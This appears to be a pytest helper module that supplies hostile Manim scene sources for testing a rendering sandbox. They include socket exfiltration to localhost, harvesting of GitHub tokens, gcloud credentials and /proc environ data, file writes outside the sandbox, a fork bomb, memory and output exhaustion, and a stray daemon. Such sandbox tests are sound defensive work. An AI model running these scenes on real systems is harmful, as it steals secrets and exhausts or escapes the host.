"""Hostile scenes and a sandbox fixture shared by the scene tests.

Each hostile scene reports what it managed to do in its exception message, so
a test asserts on what the scene saw from the inside (nothing) as well as on
the host (nothing arrived, nothing written, no process left).
"""

from __future__ import annotations

import os
import shutil

import pytest


def sandbox_or_skip():
    """A started zygote pool, or skip (fail under CI: the sandbox must work there)."""
    from beam_pipeline.scenes.sandbox import SandboxUnavailable, ZygotePool

    pool = ZygotePool(1)
    try:
        info = pool.probe()
    except SandboxUnavailable as e:
        if os.environ.get("CI"):
            pytest.fail(f"the scene sandbox must work in CI: {e}")
        pytest.skip(f"no scene sandbox here: {e}")
    if info.engine is None:
        if os.environ.get("CI"):
            pytest.fail(f"ManimCE must be installed in CI: {info.engine_error}")
        pytest.skip(f"ManimCE not installed: {info.engine_error}")
    return pool


def have_latex() -> bool:
    return bool(shutil.which("latex") and shutil.which("dvisvgm"))


def network_scene(port: int) -> str:
    return f'''from manim import *
import socket

class PhoneHome(Scene):
    def construct(self):
        reached = []
        for host in ("127.0.0.1", "localhost"):
            try:
                s = socket.create_connection((host, {port}), timeout=2)
                s.sendall(b"stolen")
                reached.append(host)
            except OSError as e:
                pass
        raise RuntimeError("reached: " + repr(reached))
'''


def secrets_scene(creds_path: str) -> str:
    return f'''from manim import *
import glob, os

class StealSecrets(Scene):
    def construct(self):
        found = []
        token = os.environ.get("GITHUB_TOKEN")
        if token:
            found.append("env:" + token)
        for path in [os.path.expanduser("~/.config/gcloud/application_default_credentials.json"),
                     {creds_path!r},
                     "/root/.config/gcloud/application_default_credentials.json"]:
            try:
                with open(path) as f:
                    found.append("file:" + f.read())
            except OSError:
                pass
        for environ in glob.glob("/proc/*/environ"):
            try:
                with open(environ, "rb") as f:
                    data = f.read()
                if b"GITHUB_TOKEN" in data:
                    found.append("proc:" + environ)
            except OSError:
                pass
        for folder in (os.path.dirname({creds_path!r}), "/var/run/secrets", "/home"):
            if os.path.exists(folder):
                found.append("exists:" + folder)
        raise RuntimeError("found: " + repr(found) + " env: " + repr(sorted(os.environ)))
'''


def escape_scene(targets: list[str]) -> str:
    return f'''from manim import *

class WriteOutside(Scene):
    def construct(self):
        written = []
        for path in {targets!r}:
            try:
                with open(path, "w") as f:
                    f.write("escaped")
                written.append(path)
            except OSError:
                pass
        raise RuntimeError("written: " + repr(written))
'''


FORK_BOMB = '''from manim import *
import os, time

class ForkBomb(Scene):
    def construct(self):
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.001)
'''

ALLOCATE_10GB = '''from manim import *

class Allocate(Scene):
    def construct(self):
        hoard = bytearray(10 * 1024 ** 3)
        self.add(Text(str(len(hoard))))
'''

LOOP_FOREVER = '''from manim import *

class LoopForever(Scene):
    def construct(self):
        while True:
            pass
'''

PRINT_1GB = '''from manim import *
import sys

class PrintGigabyte(Scene):
    def construct(self):
        chunk = "x" * (1024 * 1024)
        for _ in range(1024):
            sys.stdout.write(chunk)
        sys.stdout.flush()
'''

STRAY_DAEMON = '''from manim import *
import os, subprocess, time

class LeaveDaemon(Scene):
    def construct(self):
        subprocess.Popen(["sleep", "{marker}"], start_new_session=True)
        if os.fork() == 0:
            os.setsid()
            time.sleep(10000)
        while True:
            time.sleep(1)
'''
